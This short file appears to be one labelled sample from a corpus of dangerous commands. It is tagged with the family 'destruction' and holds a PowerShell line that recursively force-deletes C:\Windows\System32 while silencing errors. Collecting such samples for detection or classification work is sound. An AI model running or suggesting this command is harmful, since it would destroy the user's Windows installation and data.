# description: Deletes C:\Windows\System32.
# family: destruction
Remove-Item -Path C:\Windows\System32 -Recurse -Force -ErrorAction SilentlyContinue
